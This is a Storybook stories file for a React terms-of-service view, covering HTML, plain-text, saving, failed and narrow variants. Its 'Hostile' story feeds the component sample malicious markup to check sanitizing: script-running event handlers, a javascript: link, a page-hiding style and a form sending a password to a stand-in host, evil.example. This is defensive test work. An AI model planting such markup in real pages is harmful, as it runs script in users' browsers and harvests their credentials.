import type { Meta, StoryObj } from '@storybook/react-vite'
import { fn } from 'storybook/test'
import { TermsOfServiceView } from './TermsOfServiceView'
import { plainTerms, someTerms } from './testing'

const meta = {
  title: 'Advanced/Terms/TermsOfServiceView',
  id: 'terms-termsofserviceview',
  component: TermsOfServiceView,
  args: { terms: someTerms(), onAccept: fn() },
} satisfies Meta<typeof TermsOfServiceView>
export default meta

type Story = StoryObj<typeof meta>

export const Html: Story = {}

export const PlainText: Story = { args: { terms: plainTerms } }

export const Saving: Story = { args: { status: 'saving' } }

export const Failed: Story = { args: { status: 'failed' } }

/** Harmful markup is shown after sanitizing. */
export const Hostile: Story = {
  args: {
    terms: someTerms({
      agreement:
        '<style>*{display:none}</style><p onclick="alert(1)">You agree to be <b>kind</b>.</p><img src=x onerror=alert(1)>' +
        '<form action="https://evil.example"><input name="password"></form><a href="javascript:alert(1)">Read on</a>',
    }),
  },
}

export const Narrow: Story = { tags: ['variant'], globals: { width: '375' } }
